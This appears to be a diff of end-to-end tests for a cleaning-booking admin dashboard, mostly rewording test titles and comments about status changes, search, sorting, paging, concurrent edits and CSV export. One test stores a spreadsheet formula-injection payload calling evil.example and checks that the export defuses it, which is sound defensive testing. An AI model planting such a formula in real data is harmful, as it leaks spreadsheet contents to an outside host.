@@ -14,7 +14,7 @@ const IN_PROGRESS = 'CLEANING_BOOKING_STATUS_IN_PROGRESS';
 const COMPLETED = 'CLEANING_BOOKING_STATUS_COMPLETED';
 const CANCELLED = 'CLEANING_BOOKING_STATUS_CANCELLED';
 
-/** The way of a visit that goes well: what is offered, the note that is left, the mail that follows. */
+/** Steps of a successful visit: the offered next steps, the note and the email that follows. */
 const way = [
   { from: REQUESTED, offered: [CONFIRMED, CANCELLED], to: CONFIRMED, note: 'Crew 2', mail: 'cleaning-confirmed' },
   { from: CONFIRMED, offered: [IN_PROGRESS, CANCELLED], to: IN_PROGRESS, note: '', mail: 'cleaning-in-progress' },
@@ -27,7 +27,7 @@ const firstOf = (days: string[]) => {
   return day;
 };
 
-// The office reads its language, the customer gets mails in another one.
+// The admin and the customer use different languages.
 for (const [language, spoken] of [
   ['en', 'ar'],
   ['ar', 'ti'],
@@ -35,7 +35,9 @@ for (const [language, spoken] of [
   test.describe(() => {
     test.use({ as: 'admin', language });
 
-    test(`a visit from request to completion, in ${language}, for a customer who reads ${spoken}`, async ({ page }) => {
+    test(`moves a visit from request to completion, in ${language}, for a customer who reads ${spoken}`, async ({
+      page,
+    }) => {
       const customer = await newCustomer(page.request, spoken);
       const notes = 'The key is with the neighbour.';
       const booking = await bookCleaning(customer, {
@@ -60,7 +62,7 @@ for (const [language, spoken] of [
         await fitsPhone(page, 'the list of bookings');
       });
 
-      await test.step('open it and read all of it', async () => {
+      await test.step('open it and read its details', async () => {
         await desk.links.click();
         await expect(article.getByRole('heading', { name: t('admin:serviceType.SERVICE_TYPE_DEEP') })).toBeFocused();
         await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
@@ -92,7 +94,7 @@ for (const [language, spoken] of [
         });
       }
 
-      await test.step('after its end nothing more is offered, also after a reload', async () => {
+      await test.step('a completed visit offers no further step, also after a reload', async () => {
         await expect(article.getByText(t('admin:booking.ended'))).toBeVisible();
         await page.reload();
         await desk.stands(COMPLETED);
@@ -105,10 +107,10 @@ for (const [language, spoken] of [
   });
 }
 
-test.describe('the office', () => {
+test.describe('the bookings list', () => {
   test.use({ as: 'admin' });
 
-  test('search, filters, order, pages and the file of a long list', async ({ page }) => {
+  test('searches, filters, sorts, pages and exports a long list', async ({ page }) => {
     const customer = await newCustomer(page.request);
     const days = (await freeDays(customer)).slice(0, 4);
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
@@ -127,7 +129,7 @@ test.describe('the office', () => {
     await page.goto('/admin?tab=bookings');
     await desk.search(customer.email);
 
-    await test.step('two pages hold every booking once, and back leads to the first', async () => {
+    await test.step('two pages hold every booking once, and Back leads to the first', async () => {
       await expect(desk.links).toHaveCount(20);
       const first = await desk.ids();
       await page.getByRole('button', { name: t('common:pager.next') }).click();
@@ -141,7 +143,7 @@ test.describe('the office', () => {
       expect(await desk.ids()).toEqual(first);
     });
 
-    await test.step('the earliest visit first, over both pages', async () => {
+    await test.step('sort by the earliest visit, across both pages', async () => {
       const order = page.getByLabel(t('admin:desk.order'));
       await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_SOONEST');
       const soonest = [...dateOf.values()].sort();
@@ -149,7 +151,7 @@ test.describe('the office', () => {
       await expect.poll(dates).toEqual(soonest.slice(0, 20));
       await page.getByRole('button', { name: t('common:pager.next') }).click();
       await expect.poll(dates).toEqual(soonest.slice(20));
-      // Another order begins with its first page.
+      // A new sort order starts at the first page.
       await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_LATEST');
       await expect.poll(dates).toEqual(soonest.toReversed().slice(0, 20));
     });
@@ -166,7 +168,7 @@ test.describe('the office', () => {
       await desk.search(customer.email);
     });
 
-    await test.step('one status, which the file holds too, without a formula in it', async () => {
+    await test.step('filter by status; the export follows, without formulas', async () => {
       const admin = await callerOf(page.request, demoAccount('admin'));
       await admin.patch(`/v1/cleaning/bookings/${single.id}`, { status: CONFIRMED, etag: single.etag });
       await page.getByLabel(t('admin:desk.status')).selectOption(CONFIRMED);
@@ -178,7 +180,7 @@ test.describe('the office', () => {
       expect(confirmed.column('notes')).toEqual([`'${formula}`]);
       expect(confirmed.column('phone')).toEqual(["'+1 403 555 0101"]);
 
-      // The whole list, also what is on the second page, in its order.
+      // The export holds the whole list in its order, including the second page.
       await page
         .getByLabel(t('admin:desk.status'))
         .selectOption(t('admin:bookingStatus.CLEANING_BOOKING_STATUS_UNSPECIFIED'));
@@ -189,7 +191,7 @@ test.describe('the office', () => {
       expect(new Set(all.column('email'))).toEqual(new Set([customer.email]));
     });
 
-    await test.step('a search that finds nothing says so and can be cleared', async () => {
+    await test.step('a search without results shows a message and can be cleared', async () => {
       await desk.search(`nobody.${customer.email}`);
       await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
       await axe(page, 'a list in which nothing fits');
@@ -202,15 +204,12 @@ test.describe('the office', () => {
       await expect(page.getByRole('searchbox')).toHaveValue('');
     });
 
-    // Their places are free for the next run.
+    // Frees the slots for the next run.
     for (const { id } of series) await customer.post(`/v1/cleaning/bookings/${id}:cancel`, { series: true });
     await customer.post(`/v1/cleaning/bookings/${single.id}:cancel`, {});
   });
 
-  test('somebody else was faster: the fresh booking, what was typed, and no second change', async ({
-    page,
-    browser,
-  }) => {
+  test('shows the fresh booking after a concurrent change and keeps the input', async ({ page, browser }) => {
     const customer = await newCustomer(page.request);
     const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
     const at = `/admin?tab=bookings&open=${booking.id}`;
@@ -223,14 +222,14 @@ test.describe('the office', () => {
 
     const second = await anotherBrowser(browser, 'admin');
     const other = adminTable(second.page, 'en', 'bookings');
-    await test.step('a second window confirms it meanwhile', async () => {
+    await test.step('a second window confirms it in the meantime', async () => {
       await other.page.goto(at);
       await other.stands(REQUESTED);
       await other.choose(CONFIRMED);
       await other.save(CONFIRMED);
     });
 
-    await test.step('the first one is told and sees how it stands now', async () => {
+    await test.step('the first window is notified and shows the current status', async () => {
       await article.getByRole('button', { name: t('admin:step.save') }).click();
       await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
       const status = t(`admin:bookingStatus.${CONFIRMED}`);
@@ -242,14 +241,14 @@ test.describe('the office', () => {
       await fitsPhone(page, 'a booking that somebody else has changed');
     });
 
-    await test.step('with the fresh booking the next step is saved', async () => {
+    await test.step('the next step is saved on the fresh booking', async () => {
       await desk.choose(IN_PROGRESS);
       await desk.save(IN_PROGRESS);
       await expect(desk.history.nth(2)).toContainText('Crew 4');
       await expect(desk.history).toHaveCount(4);
     });
 
-    await test.step('an end that came meanwhile leaves nothing to choose', async () => {
+    await test.step('a booking that ended in the meantime offers no step', async () => {
       await other.page.reload();
       await other.stands(IN_PROGRESS);
       await desk.choose(COMPLETED);
@@ -267,7 +266,7 @@ test.describe('the office', () => {
 test.describe('a client', () => {
   test.use({ as: 'client' });
 
-  test('sees nothing of it', async ({ page }) => {
+  test('cannot open the dashboard', async ({ page }) => {
     const customer = await newCustomer(page.request);
     const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
     const at = `/v1/cleaning/bookings/${booking.id}`;
